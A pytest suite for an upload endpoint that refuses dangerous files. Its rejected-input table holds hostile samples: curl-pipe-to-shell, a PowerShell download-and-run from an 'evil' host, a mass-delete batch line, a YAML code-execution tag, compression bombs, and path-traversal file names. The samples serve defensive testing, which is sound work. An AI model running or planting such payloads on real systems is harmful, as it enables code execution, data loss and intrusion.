"""Files: sniffing and refusal of dangerous content (through POST /api/sessions/{id}/files), strict base64 in the
service used by /api/chat, credential file shapes, all-or-nothing, materialisation into a private folder."""

import base64
import bz2
import gzip
import io
import json
import lzma
import os
import secrets
import stat
import subprocess
import sys
import tarfile
import zipfile

import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec

from mcpagent.errors import ApplicationError
from sessions_app.credentials import file_materialize, files_collected, files_store, materialized_files_sweep
from mcpagent.vault.models import AuditEvent, StoredFile


def multipart(filename: str, content: bytes, **fields: str) -> tuple[bytes, str]:
    """A multipart body written by hand, so the file name reaches the server exactly as given."""
    boundary = "mcpagent-test-" + secrets.token_hex(8)
    quoted = filename.replace("\\", "\\\\").replace('"', '\\"')
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode()
        for name, value in fields.items()
    ]
    parts.append(
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{quoted}"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n".encode() + content + b"\r\n"
    )
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def upload(api, session, filename: str, content: bytes, **fields: str):
    body, content_type = multipart(filename, content, **fields)
    return api.post(f"/api/sessions/{session.pk}/files", data=body, content_type=content_type)


def private_key_pem() -> str:
    key = ec.generate_private_key(ec.SECP256R1())
    return key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    ).decode()


def service_account(**overrides) -> dict:
    doc = {
        "type": "service_account", "project_id": "demo-project", "private_key_id": "abc123",
        "private_key": private_key_pem(), "client_email": "bot@demo-project.iam.gserviceaccount.com",
        "client_id": "1234567890", "token_uri": "https://oauth2.googleapis.com/token",
    }
    doc.update(overrides)
    return {k: v for k, v in doc.items() if v is not None}


def oauth_client(section: str = "installed", **overrides) -> dict:
    inner = {
        "client_id": "123-abc.apps.googleusercontent.com", "client_secret": "GOCSPX-" + secrets.token_hex(12),
        "auth_uri": "https://accounts.google.com/o/oauth2/auth", "token_uri": "https://oauth2.googleapis.com/token",
        "redirect_uris": ["http://localhost"],
    }
    inner.update(overrides)
    return {section: {k: v for k, v in inner.items() if v is not None}}


def _zip(members: dict[str, bytes], compression=zipfile.ZIP_STORED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        data = b'{"a": 1}'
        info = tarfile.TarInfo("creds.json")
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


GOOD_FILES = [
    ("config.json", json.dumps({"workspace": "acme", "channels": ["#ops"]}).encode(), "application/json", "json"),
    ("settings.yaml", b"server:\n  port: 8080\n  hosts: [a, b]\n", "application/yaml", "yaml"),
    ("key.pem", private_key_pem().encode(), "application/x-pem-file", "pem"),
    (".env", b"# comment\nAPI_KEY=abc123\nexport REGION=eu-west-1\n", "text/plain", "dotenv"),
    ("notes.txt", "Just a note about the account, ünïcode ok.\n".encode(), "text/plain", "text"),
    ("howto.txt", b"Set up the account first.\nIf you lose the key, rotate it.\nFor more, see the docs.\n"
                  b"Start with the sandbox.\nCall support if stuck.\n", "text/plain", "text"),
    ("sa.json", json.dumps(service_account()).encode(), "application/json", "google_service_account"),
    ("client_secret.json", json.dumps(oauth_client()).encode(), "application/json", "google_oauth_client"),
    ("web_client.json", json.dumps(oauth_client("web")).encode(), "application/json", "google_oauth_client"),
]


@pytest.mark.parametrize(("filename", "content", "content_type", "detected"), GOOD_FILES, ids=[g[0] for g in GOOD_FILES])
def test_allowed_files_upload_with_metadata_only(api, session_x, filename, content, content_type, detected):
    response = upload(api, session_x, filename, content, type="config", key="SOME_FILE")
    assert response.status_code == 201, response.json()
    body = response.json()
    assert (body["filename"], body["content_type"], body["detected"], body["size"], body["type"], body["key"]) == (
        filename, content_type, detected, len(content), "config", "SOME_FILE"
    )
    assert set(body) == {"id", "filename", "type", "server", "key", "content_type", "detected", "size",
                         "fingerprint", "expires_at", "created_at"}
    assert content[:40].decode() not in response.content.decode()
    stored = StoredFile.objects.get(pk=body["id"])
    assert stored.content == content and stored.references.get().session_id == session_x.pk
    event = AuditEvent.objects.get(object_id=body["id"])
    assert (event.action, event.object_type, event.reason, event.actor_label) == ("create", "file", "upload", "client-x")


def _bomb() -> bytes:
    return _zip({"bomb.json": b"0" * (20 * 1024 * 1024)}, zipfile.ZIP_DEFLATED)


REJECTED = [
    # (id, filename, content, status, code)
    ("zip", "creds.json", _zip({"creds.json": b'{"a": 1}'}), 415, "archive_not_allowed"),
    ("zip-bomb", "data.json", _bomb(), 415, "archive_not_allowed"),
    ("docx", "letter.txt", _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}), 415, "archive_not_allowed"),
    ("gzip", "creds.json", gzip.compress(b'{"a": 1}' * 100), 415, "archive_not_allowed"),
    ("gzip-bomb", "creds.json", gzip.compress(b"\0" * (10 * 1024 * 1024)), 415, "archive_not_allowed"),
    ("bzip2", "creds.json", bz2.compress(b'{"a": 1}'), 415, "archive_not_allowed"),
    ("xz", "creds.json", lzma.compress(b'{"a": 1}'), 415, "archive_not_allowed"),
    ("tar", "creds.json", _tar(), 415, "archive_not_allowed"),
    ("7z", "creds.json", b"7z\xbc\xaf\x27\x1c\x00\x04" + os.urandom(64), 415, "archive_not_allowed"),
    ("rar", "creds.json", b"Rar!\x1a\x07\x01\x00" + os.urandom(64), 415, "archive_not_allowed"),
    ("elf", "creds.json", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56, 415, "executable_not_allowed"),
    ("pe", "creds.json", b"MZ\x90\x00\x03\x00\x00\x00This program cannot be run in DOS mode.", 415, "executable_not_allowed"),
    ("macho", "creds.json", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 24, 415, "executable_not_allowed"),
    ("java-class", "creds.json", b"\xca\xfe\xba\xbe\x00\x00\x00\x34", 415, "executable_not_allowed"),
    ("shebang", "setup.txt", b"#!/bin/sh\ncurl http://x | sh\n", 415, "script_not_allowed"),
    ("shebang-env", "run.txt", b"  #!/usr/bin/env python3\nprint(1)\n", 415, "script_not_allowed"),
    ("batch", "creds.txt", b"@echo off\r\ndel /q C:\\Users\\*\r\n", 415, "script_not_allowed"),
    ("batch-no-echo", "creds.txt", b"set X=1\r\ncall evil.cmd\r\ngoto end\r\n", 415, "script_not_allowed"),
    ("powershell", "creds.txt", b"IEX (New-Object Net.WebClient).DownloadString('http://evil/x.ps1')\n", 415, "script_not_allowed"),
    ("vbscript", "creds.txt", b'Set sh = CreateObject("WScript.Shell")\nsh.Run "calc"\n', 415, "script_not_allowed"),
    ("jscript", "creds.txt", b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');\n", 415, "script_not_allowed"),
    ("node", "creds.txt", b"require('child_process').exec('id')\n", 415, "script_not_allowed"),
    ("html", "creds.txt", b"<html><body><script>fetch('/x')</script></body></html>\n", 415, "script_not_allowed"),
    ("python", "creds.txt", b"import os\nos.system('id')\n", 415, "script_not_allowed"),
    ("yaml-python-tag", "creds.yaml", b"x: !!python/object/apply:os.system ['id']\n", 415, "script_not_allowed"),
    ("pdf", "creds.txt", b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n", 415, "document_not_allowed"),
    ("pdf-late-header", "creds.txt", b"garbage line\n%PDF-1.4\n1 0 obj\n", 415, "document_not_allowed"),
    ("ole-office", "creds.txt", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64, 415, "document_not_allowed"),
    ("rtf", "creds.txt", b"{\\rtf1\\ansi hello}", 415, "document_not_allowed"),
    ("polyglot-json-zip", "creds.json", b'{"a": "' + b"x" * 10 + b'"}\n' + _zip({"evil.sh": b"id"}), 415, "polyglot_not_allowed"),
    ("polyglot-central-dir", "creds.json", b'{"a": "PK\x01\x02"}', 415, "polyglot_not_allowed"),
    ("polyglot-elf-inside", "creds.json", b'{"a": 1, "b": "\x7fELF"}', 415, "polyglot_not_allowed"),
    ("polyglot-mz-stub", "creds.txt", b"KEY=1\nThis program cannot be run in DOS mode\n", 415, "polyglot_not_allowed"),
    ("nul-bytes", ".env", b"API_KEY=abc\x00def\n", 415, "binary_not_allowed"),
    ("non-utf8", "creds.txt", b"\xff\xfe\xfa\xfb binary \x80\x81", 415, "binary_not_allowed"),
    ("utf16", "creds.json", '{"a": 1}'.encode("utf-16"), 415, "binary_not_allowed"),
    ("control-chars", "creds.txt", b"KEY=1\x1b[31m\n", 415, "binary_not_allowed"),
    ("png", "creds.txt", b"\x89PNG\r\n\x1a\n" + b"\x00" * 32, 415, "binary_not_allowed"),
    ("yaml-alias-bomb", "creds.yaml",
     b"a: &a [x, x, x, x, x, x, x, x, x]\n" + b"".join(
         f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n".encode() for i in range(8)
     ), 415, "invalid_file"),
    ("empty", "creds.json", b"", 400, "empty_file"),
    ("whitespace", "creds.json", b" \n\t\n", 400, "empty_file"),
    ("bad-json-named-json", "creds.json", b'{"a": 1,,}', 400, "invalid_file"),
    ("pem-unterminated", "key.pem", b"-----BEGIN PRIVATE KEY-----\nMIIBVQIBADANBgkqhkiG9w0BAQEFAASC\n", 400, "invalid_file"),
    ("sa-missing-fields", "sa.json", json.dumps(service_account(private_key=None, client_email=None)).encode(), 400,
     "invalid_credential_file"),
    ("sa-key-not-pem", "sa.json", json.dumps(service_account(private_key="not a key")).encode(), 400,
     "invalid_credential_file"),
    ("oauth-missing-fields", "client.json", json.dumps(oauth_client(client_secret=None, token_uri=None)).encode(), 400,
     "invalid_credential_file"),
    # Names: refused, never repaired.
    ("traversal", "../creds.json", b'{"a": 1}', 400, "invalid_filename"),
    ("traversal-deep", "configs/../../../etc/creds.json", b'{"a": 1}', 400, "invalid_filename"),
    ("traversal-windows", "..\\..\\creds.json", b'{"a": 1}', 400, "invalid_filename"),
    ("absolute", "/etc/passwd", b"root:x:0:0\n", 400, "invalid_filename"),
    ("absolute-windows", "C:\\Windows\\creds.json", b'{"a": 1}', 400, "invalid_filename"),
    ("home", "~/.ssh/id_rsa", b"x=1\n", 400, "invalid_filename"),
    ("control-in-name", "cre\x07ds.json", b'{"a": 1}', 400, "invalid_filename"),
    ("rtl-override", "evil\u202egpj.json", b'{"a": 1}', 400, "invalid_filename"),
    ("too-long-name", "a" * 300 + ".json", b'{"a": 1}', 400, "invalid_filename"),
    ("hidden", ".bashrc", b"x=1\n", 400, "invalid_filename"),
    ("exe-extension", "creds.json.exe", b'{"a": 1}', 415, "unsupported_file_type"),
    ("script-extension", "install.ps1", b"KEY=1\n", 415, "unsupported_file_type"),
]


@pytest.mark.parametrize(("filename", "content", "status", "code"), [r[1:] for r in REJECTED], ids=[r[0] for r in REJECTED])
def test_rejected_uploads_get_a_clear_4xx_and_store_nothing(api, session_x, filename, content, status, code):
    before = (StoredFile.objects.count(), AuditEvent.objects.count())
    response = upload(api, session_x, filename, content)
    assert response.status_code == status, response.content[:500]
    error = response.json()["error"]
    assert error["code"] == code and error["message"]
    assert "Nothing was stored" in error["message"]
    assert (StoredFile.objects.count(), AuditEvent.objects.count()) == before


def test_missing_fields_of_credential_files_are_named(api, session_x):
    response = upload(api, session_x, "sa.json", json.dumps(service_account(project_id=None, token_uri=None)).encode())
    detail = response.json()["error"]["details"]["files"][0]
    assert detail["details"] == {"detected": "google_service_account", "missing": ["project_id", "token_uri"]}
    response = upload(api, session_x, "c.json", json.dumps(oauth_client("web", auth_uri=None)).encode())
    assert response.json()["error"]["details"]["files"][0]["details"]["missing"] == ["web.auth_uri"]


def test_size_limits(api, session_x, settings):
    settings.FILE_MAX_BYTES = 2000
    response = upload(api, session_x, "big.txt", b"a" * 2001)
    assert response.status_code == 413 and response.json()["error"]["code"] == "file_too_large"
    assert upload(api, session_x, "ok.txt", b"a" * 2000).status_code == 201
    # The whole body is refused before it is read when it cannot fit.
    response = upload(api, session_x, "big.txt", b"a" * 200_000)
    assert response.status_code == 413
    settings.FILE_MAX_BYTES, settings.FILES_MAX_REQUEST_BYTES = 2000, 3000
    before = StoredFile.objects.count()
    result = files_store(client=api.client_obj, session=session_x, actor=api.client_obj, reason="chat", files=[
        {"filename": "a.txt", "content": base64.b64encode(b"a" * 1600).decode()},
        {"filename": "b.txt", "content": base64.b64encode(b"b" * 1600).decode()},
    ])
    assert [e["code"] for e in result.errors] == ["request_too_large"] and StoredFile.objects.count() == before


def test_default_limit_is_one_megabyte(api, session_x):
    assert upload(api, session_x, "big.txt", b"a" * (1024 * 1024 + 1)).status_code == 413
    assert upload(api, session_x, "ok.txt", b"a" * (1024 * 1024)).status_code == 201


def test_upload_request_shape(api, session_x):
    assert api.post(f"/api/sessions/{session_x.pk}/files", {"file": "x"}, format="json").status_code == 415
    body, content_type = multipart("a.txt", b"x=1\n")
    no_file = body.replace(b'name="file"', b'name="other"')
    response = api.post(f"/api/sessions/{session_x.pk}/files", data=no_file, content_type=content_type)
    assert response.status_code == 400 and response.json()["error"]["code"] == "invalid_file"
    response = upload(api, session_x, "a.txt", b"x=1\n", type="something-else")
    assert response.status_code == 400 and response.json()["error"]["code"] == "invalid_file_type"
    assert upload(api, session_x, "a.txt", b"x=1\n", key="bad key").json()["error"]["code"] == "invalid_key"
    assert StoredFile.objects.count() == 0


def test_service_strict_base64(api, session_x):
    good = base64.b64encode(b'{"a": 1}').decode()
    wrapped = base64.encodebytes(b"KEY=" + b"v" * 100 + b"\n").decode()  # MIME-style line breaks are fine
    assert files_store(client=api.client_obj, session=session_x, actor=api.client_obj, reason="chat",
                       files=[{"filename": "a.json", "content": good}, {"filename": "b.env", "content": wrapped}]).ok
    for bad in ("not base64!", good.rstrip("="), base64.urlsafe_b64encode(b"\xfb\xff\xfe" * 5).decode(), 123):
        before = StoredFile.objects.count()
        result = files_store(client=api.client_obj, session=session_x, actor=api.client_obj, reason="chat",
                             files=[{"filename": "a.json", "content": bad}])
        assert [e["code"] for e in result.errors] == ["invalid_base64"], bad
        with pytest.raises(ApplicationError) as excinfo:
            result.raise_for_errors()
        assert excinfo.value.status == 400 and StoredFile.objects.count() == before


def test_one_bad_file_stores_none_and_each_is_named(api, session_x):
    files = [
        {"filename": "ok.json", "content": base64.b64encode(b'{"a": 1}').decode()},
        {"filename": "../x.json", "content": base64.b64encode(b'{"a": 1}').decode()},
        {"filename": "x.json", "content": base64.b64encode(_zip({"a": b"b"})).decode()},
    ]
    result = files_store(client=api.client_obj, session=session_x, files=files, actor=api.client_obj, reason="chat")
    assert [(e["index"], e["code"]) for e in result.errors] == [(1, "invalid_filename"), (2, "archive_not_allowed")]
    assert StoredFile.objects.count() == 0
    with pytest.raises(ApplicationError) as excinfo:
        result.raise_for_errors()
    assert excinfo.value.code == "invalid_files" and excinfo.value.status == 400


def catalogue_file_server(slug: str = "file-reader", key: str = "READER_CONFIG"):
    from registry_app.models import CredentialRequirement, McpServer

    server = McpServer.objects.create(slug=slug, name=slug.title(), description="Reads a configured file")
    CredentialRequirement.objects.create(server=server, key=key, location="env", kind="file_path", required=True,
                                         description="its configuration file")
    return server


def test_a_keyed_file_replaces_the_previous_one(api, session_x):
    catalogue_file_server("gdrive", "GOOGLE_APPLICATION_CREDENTIALS")
    for content in (b'{"v": 1}', b'{"v": 2}'):
        assert upload(api, session_x, "c.json", content, key="GOOGLE_APPLICATION_CREDENTIALS", server="gdrive").status_code == 201
    stored = StoredFile.objects.get(references__session_id=session_x.pk)
    assert stored.content == b'{"v": 2}'
    assert list(AuditEvent.objects.filter(object_type="file").order_by("at").values_list("action", flat=True)) == [
        "create", "update"
    ]
    assert files_collected(session=session_x) == {"GOOGLE_APPLICATION_CREDENTIALS", "gdrive:GOOGLE_APPLICATION_CREDENTIALS"}


def test_materialize_writes_private_files_and_removes_them(api, session_x, tmp_path, settings):
    settings.FILES_MATERIALIZE_DIR = str(tmp_path)
    sa = json.dumps(service_account()).encode()
    upload(api, session_x, "sa.json", sa, key="GOOGLE_APPLICATION_CREDENTIALS")
    upload(api, session_x, "notes.txt", b"hello\n")
    with file_materialize(client=api.client_obj, session=session_x, actor=api.client_obj, reason="agent_run") as paths:
        sa_path = paths["GOOGLE_APPLICATION_CREDENTIALS"]
        assert sa_path.read_bytes() == sa and sa_path.name == "sa.json"
        assert stat.S_IMODE(sa_path.stat().st_mode) == 0o600
        folder = sa_path.parent.parent
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700 and folder.parent == tmp_path
        assert len(paths) == 2
    assert not folder.exists()
    assert AuditEvent.objects.filter(action="read_for_use", object_type="file", reason="agent_run").count() == 2
    with pytest.raises(RuntimeError):
        with file_materialize(client=api.client_obj, session=session_x, actor=api.client_obj, reason="x") as paths:
            folder = next(iter(paths.values())).parent.parent
            raise RuntimeError("the server crashed")
    assert not folder.exists() and list(tmp_path.iterdir()) == []


def test_sweep_removes_folders_of_dead_processes_only(api, session_x, tmp_path, settings):
    # A worker killed at its hard time limit cannot clean up: the purge task and worker start-up sweep its folder.
    settings.FILES_MATERIALIZE_DIR = str(tmp_path)
    upload(api, session_x, "a.txt", b"x=1\n", key="A_FILE")
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = tmp_path / f"mcpagent-files-{dead.pid}-k1ll3d"
    (left / "1").mkdir(mode=0o700, parents=True)
    (left / "1" / "sa.json").write_text('{"private_key": "..."}')
    other = tmp_path / "someone-elses"
    other.mkdir()
    (tmp_path / f"mcpagent-files-{dead.pid}-link").symlink_to(other)
    with file_materialize(client=api.client_obj, session=session_x, actor=api.client_obj, reason="x") as paths:
        live = paths["A_FILE"].parent.parent
        assert live.name.startswith(f"mcpagent-files-{os.getpid()}-")
        assert materialized_files_sweep() == 1
        assert not left.exists()
        assert paths["A_FILE"].read_bytes() == b"x=1\n"  # its owner is alive: untouched
        assert other.is_dir()
    assert not live.exists() and materialized_files_sweep() == 0


def test_materialize_defaults_to_memory_backed_storage(api, session_x, settings):
    if not (os.path.isdir("/dev/shm") and os.access("/dev/shm", os.W_OK)):
        pytest.skip("no writable /dev/shm on this machine")
    settings.FILES_MATERIALIZE_DIR = ""
    upload(api, session_x, "a.txt", b"x=1\n")
    with file_materialize(client=api.client_obj, session=session_x, actor=api.client_obj, reason="x") as paths:
        assert str(next(iter(paths.values()))).startswith("/dev/shm/mcpagent-files-")


def test_upload_for_a_server_that_does_not_exist_is_400_naming_the_field(api, session_x):
    for key in ("READER_CONFIG", "ANYTHING", ""):
        response = upload(api, session_x, "a.json", b'{"a": 1}', key=key, server="nonexistent-server")
        assert response.status_code == 400, response.content
        error = response.json()["error"]
        assert error["code"] == "unknown_server" and "nonexistent-server" in error["message"]
        assert error["details"]["files"][0]["details"]["field"] == "server"
    assert StoredFile.objects.count() == 0


def test_upload_for_a_key_the_server_does_not_ask_for_is_400_naming_the_field(api, session_x):
    catalogue_file_server()
    response = upload(api, session_x, "a.json", b'{"a": 1}', key="OTHER_FILE", server="file-reader")
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "unknown_file_key"
    assert error["details"]["files"][0]["details"] == {"field": "key", "server": "file-reader",
                                                       "file_keys": ["READER_CONFIG"]}
    assert upload(api, session_x, "a.json", b'{"a": 1}', key="READER_CONFIG", server="file-reader").status_code == 201


def test_once_planned_a_key_without_server_must_be_a_planned_servers_file(api, session_x):
    catalogue_file_server()
    session_x.context["plan"] = {"request": "read my file", "servers": [
        {"need": "files", "slug": "file-reader", "name": "File Reader", "repository_url": "", "confidence": 1.0,
         "reason": ""}]}
    session_x.save()
    response = upload(api, session_x, "a.json", b'{"a": 1}', key="SOME_FILE")
    assert response.status_code == 400 and response.json()["error"]["code"] == "unknown_file_key"
    assert upload(api, session_x, "a.json", b'{"a": 1}', key="READER_CONFIG").status_code == 201


def test_session_file_count_quota(api, session_x, settings):
    settings.FILES_MAX_PER_SESSION = 2
    assert upload(api, session_x, "a.txt", b"a\n").status_code == 201
    assert upload(api, session_x, "b.txt", b"b\n").status_code == 201
    response = upload(api, session_x, "c.txt", b"c\n")
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "session_file_quota_exceeded" and "FILES_MAX_PER_SESSION" in error["message"]
    assert StoredFile.objects.filter(references__session_id=session_x.pk).count() == 2


def test_session_file_bytes_quota_counts_a_replaced_file_once(api, session_x, settings):
    catalogue_file_server()
    settings.FILES_MAX_BYTES_PER_SESSION = 100
    for _ in range(3):  # the same key again replaces: still 60 bytes stored
        assert upload(api, session_x, "c.json", b"{}" + b" " * 58, key="READER_CONFIG",
                      server="file-reader").status_code == 201
    response = upload(api, session_x, "d.txt", b"x" * 41)
    assert response.status_code == 400, response.content
    error = response.json()["error"]
    assert error["code"] == "session_file_quota_exceeded" and "FILES_MAX_BYTES_PER_SESSION" in error["message"]
    assert error["details"]["files"][0]["details"] == {"setting": "FILES_MAX_BYTES_PER_SESSION", "limit": 100,
                                                       "total": 101}
    assert upload(api, session_x, "d.txt", b"x" * 40).status_code == 201


def test_one_sessions_files_do_not_count_for_another(api, session_x, settings):
    from sessions_app.models import Session

    settings.FILES_MAX_PER_SESSION = 1
    assert upload(api, session_x, "a.txt", b"a\n").status_code == 201
    other = Session.objects.create(client=api.client_obj)
    assert upload(api, other, "a.txt", b"a\n").status_code == 201
